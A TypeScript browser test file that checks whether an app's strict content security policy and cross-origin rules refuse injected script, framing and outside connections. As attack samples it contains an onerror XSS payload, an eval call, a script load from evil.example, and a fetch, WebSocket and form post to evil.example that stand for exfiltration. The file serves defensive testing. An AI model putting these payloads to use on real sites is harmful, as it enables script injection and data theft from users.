/** What the node tells the browser to refuse is really refused (THREATS.md 18, 19). */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '../people/world.ts'

test('the app opens under its own strict policy without a complaint', async ({ world }) => {
  const node = await world.node()
  const person = await world.person('Ngo')
  await person.page.goto(node.url)
  await expect(person.page.getByRole('heading', { level: 1 })).toBeVisible()
  await person.isInstalled()
  expect(person.complaints).toEqual([])
})

test('script that slipped into the page does not run, by any door', async ({ world }) => {
  const node = await world.node()
  const { page } = await world.person('Ngo')
  await page.goto(node.url)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const outcome = await page.evaluate(async () => {
    const attempt = async (act: () => unknown) => {
      try {
        return String(await act())
      } catch (error) {
        return (error as Error).name
      }
    }
    const addScript = (fill: (script: HTMLScriptElement) => void) => {
      const script = document.createElement('script')
      fill(script)
      document.body.append(script)
    }
    const results = {
      html: await attempt(() => (document.body.innerHTML += '<img src=x onerror="globalThis.owned=1">')),
      // From a task of the page: what the test itself evaluates is exempt.
      evaluation: await new Promise<string>((resolve) =>
        // oxlint-disable-next-line no-eval -- it is the attack
        setTimeout(() => void attempt(() => (0, eval)('globalThis.owned = 2')).then(resolve)),
      ),
      text: await attempt(() => addScript((script) => (script.textContent = 'globalThis.owned = 3'))),
      foreignScript: await attempt(() => addScript((script) => (script.src = 'https://evil.example/x.js'))),
      worker: await attempt(() => new Worker('data:text/javascript,postMessage(1)')),
      policy: await attempt(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
        ).trustedTypes.createPolicy('mine', {}),
      ),
      send: await attempt(() => fetch('https://evil.example/?stolen')),
      socket: await attempt(
        () =>
          new Promise((resolve) => {
            const socket = new WebSocket('wss://evil.example/')
            socket.onopen = () => resolve('open')
            socket.onerror = () => resolve('refused')
          }),
      ),
      form: await attempt(() => {
        const form = document.createElement('form')
        form.action = 'https://evil.example/'
        document.body.append(form)
        form.submit()
      }),
    }
    await new Promise((resolve) => setTimeout(resolve, 200))
    return { ...results, owned: (globalThis as { owned?: number }).owned ?? 'no' }
  })
  expect(outcome).toMatchObject({
    html: 'TypeError',
    evaluation: 'EvalError',
    text: 'TypeError',
    foreignScript: 'TypeError',
    worker: 'TypeError',
    policy: 'TypeError',
    send: 'TypeError',
    owned: 'no',
  })
  expect(['refused', 'SecurityError']).toContain(outcome.socket)
  expect(page.url()).toContain(node.url)
})

test('no other site may frame the app, read its interface, or open its sockets', async ({ world }) => {
  const node = await world.node()
  const evil = createServer((_, response) =>
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${node.url}"></iframe>`),
  ).listen(0, '127.0.0.1')
  await new Promise((resolve) => evil.once('listening', resolve))
  const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/`
  const { page } = await world.person('Stranger')
  await page.goto(evilUrl)
  const seen = await page.evaluate(async (url) => {
    const read = (path: string) =>
      fetch(url + path).then(
        (answer) => `read ${answer.status}`,
        () => 'refused',
      )
    const socket = (path: string) =>
      new Promise((resolve) => {
        const one = new WebSocket(url.replace('http', 'ws') + path)
        one.onopen = () => resolve('open')
        one.onerror = () => resolve('refused')
      })
    return [
      await read('/api/relays'),
      await read('/health'),
      await read('/'),
      await socket('/sync'),
      await socket('/y/room'),
    ]
  }, node.url)
  expect(seen).toEqual(['refused', 'refused', 'refused', 'refused', 'refused'])
  const framed = page.frames().find((frame) => frame !== page.mainFrame())
  expect(await framed?.content().catch(() => '')).not.toContain('id="root"')
  evil.close()
})

test('two relays of one set may be asked by each other’s pages', async ({ world }) => {
  const [a, b] = await world.pair()
  const { page } = await world.person('Ngo')
  await page.goto(a.url)
  const site = await page.evaluate(async (url) => {
    const { relays } = (await (await fetch(`${url}/api/relays`)).json()) as { relays: { site: string }[] }
    return relays[0]?.site
  }, b.url)
  expect(site).toBe(b.site)
})
